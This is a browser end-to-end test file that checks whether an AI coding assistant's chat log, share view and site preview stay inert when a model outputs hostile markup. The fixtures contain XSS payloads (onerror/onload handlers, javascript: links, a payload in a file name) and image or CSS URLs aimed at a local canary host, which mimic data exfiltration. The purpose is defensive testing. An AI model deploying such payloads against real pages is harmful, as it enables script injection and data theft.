import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { answer, text, tool } from '@tabwright/testkit'
import { expect, idle, startSession, test } from './fixtures'

/** Counts who comes, and lets everybody in. */
async function canaryHost(): Promise<{ readonly url: string; readonly seen: readonly string[]; close(): Promise<void> }> {
  const seen: string[] = []
  const server = createServer((request, response) => {
    seen.push(request.url ?? '')
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}`, seen, close: () => new Promise((resolve) => server.close(() => resolve())) }
}

const hostile = (host: string): string => `Look:

![picture](${host}/image?d=WORDS) ![ref][r] [named](javascript:window.hurt=1) <${host}/auto>

<img src="${host}/img" onerror="window.hurt=1"> <svg onload="window.hurt=1"><image href="${host}/svg"/></svg>
<style>body{background:url(${host}/css)}</style><link rel="prefetch" href="${host}/prefetch"><iframe src="${host}/frame"></iframe>

\`\`\`mermaid
graph TD; A["<img src=x onerror=window.hurt=1>"]
\`\`\`

[r]: ${host}/reference
`

/** A site that leaves behind whatever a page can. */
const SITE = `<!doctype html><h1>Site</h1><p id="done"></p><script>
  const before = \`found \${localStorage.getItem('mark') ?? 'nothing'} of \${location.origin}\`
  document.cookie = 'mark=preview'
  document.cookie = 'mark=preview; domain=localhost'
  localStorage.setItem('mark', 'preview')
  setInterval(() => new BroadcastChannel('mark').postMessage('preview'), 50)
  indexedDB.open('mark')
  navigator.serviceWorker?.register('/index.html').catch(() => {})
  document.querySelector('#done').textContent = before
</script>`

test('[O24] [O25] [O43] what strangers wrote loads and runs nothing where it is read, and finds nothing that a preview left', async ({
  context,
  relay,
  model,
}) => {
  // One whose console may have errors: they are the site's.
  const page = await context.newPage()
  await context.addInitScript(() => {
    // The site itself may hear what it says.
    if (location.hostname.includes('preview')) return
    Reflect.set(globalThis, 'heard', 0)
    new BroadcastChannel('mark').addEventListener('message', () => Reflect.set(globalThis, 'heard', 1))
  })
  const host = await canaryHost()
  const markup = `<img src="${host.url}/tool" onerror="window.hurt=1">`
  model.setScript([
    answer([
      text(hostile(host.url)),
      tool('write_file', { path: '<img src=x onerror=window.hurt=1>.html', content: markup }),
      tool('write_file', { path: 'index.html', content: SITE }),
    ]),
    answer([text('Shown.')]),
    answer([tool('write_file', { path: 'index.html', content: SITE })]),
    answer([text('Once more.')]),
  ])
  try {
    await startSession(page, relay.url, 'show it')
    await expect(page.getByRole('log')).toContainText('Shown.')
    await idle(page)
    await page.getByRole('tab', { name: 'Preview' }).click()
    const site = page.frameLocator('iframe[title="Preview"]').getByText('found nothing of')
    const first = await site.innerText()
    const found = await page.evaluate(async () => ({
      cookie: document.cookie,
      kept: localStorage.getItem('mark'),
      databases: (await indexedDB.databases()).filter(({ name }) => name === 'mark').length,
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      heard: Reflect.get(globalThis, 'heard'),
    }))
    expect(found, 'in the app').toEqual({ cookie: '', kept: null, databases: 0, workers: 0, heard: 0 })

    await page.getByRole('button', { name: 'Share', exact: true }).click()
    const dialog = page.getByRole('dialog', { name: 'Share session' })
    await dialog.getByRole('button', { name: 'Create link' }).click()
    const link = dialog.getByRole('textbox', { name: 'Share link' })
    await expect(link).toHaveValue(/#[\w-]{43}$/)
    // The same browser: whatever the preview left is there to be found.
    const reader = await context.newPage()
    const told: string[] = []
    await reader.addInitScript(() => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        const broken: unknown = Reflect.get(globalThis, 'broken')
        Reflect.set(globalThis, 'broken', [...(Array.isArray(broken) ? broken : []), `${effectiveDirective} ${blockedURI}`])
      })
    })
    reader.on('console', (message) => message.type() === 'error' && told.push(message.text()))
    await reader.goto(await link.inputValue())
    const log = reader.getByRole('log')
    await expect(log).toContainText('Shown.')
    await expect(log, 'a picture is told as one, with all of its address').toContainText(`${host.url}/image?d=WORDS`)
    const state = await reader.evaluate(async () => ({
      hurt: Reflect.get(globalThis, 'hurt'),
      broken: Reflect.get(globalThis, 'broken'),
      heard: Reflect.get(globalThis, 'heard'),
      handlers: [...document.querySelectorAll('*')].filter((element) => [...element.attributes].some(({ name }) => name.startsWith('on')))
        .length,
      written: document.querySelectorAll('[role="log"] :is(img, iframe, style, link, script, object, embed)').length,
      targets: [...document.querySelectorAll<HTMLAnchorElement>('[role="log"] a')].map(({ protocol }) => protocol),
      kept: [document.cookie, localStorage.getItem('mark'), (await indexedDB.databases()).length],
      workers: (await navigator.serviceWorker.getRegistrations()).length,
    }))
    expect(state).toMatchObject({ hurt: undefined, broken: undefined, heard: 0, handlers: 0, written: 0, kept: ['', null, 0], workers: 0 })
    expect(state.targets.filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([])
    for (const name of [/Changes/, /Files/]) {
      await reader.getByRole('tab', { name }).click()
      await expect(reader.getByRole('tabpanel')).toContainText('onerror=window.hurt=1')
    }
    expect(await reader.evaluate(() => Reflect.get(globalThis, 'hurt'))).toBeUndefined()
    await startSession(page, relay.url, 'another site')
    await expect(page.getByRole('log')).toContainText('Once more.')
    await idle(page)
    await page.getByRole('tab', { name: 'Preview' }).click()
    expect(await site.innerText(), 'the next session has another origin').not.toBe(first)
    expect(host.seen).toEqual([])
    expect(told).toEqual([])
  } finally {
    await host.close()
  }
})
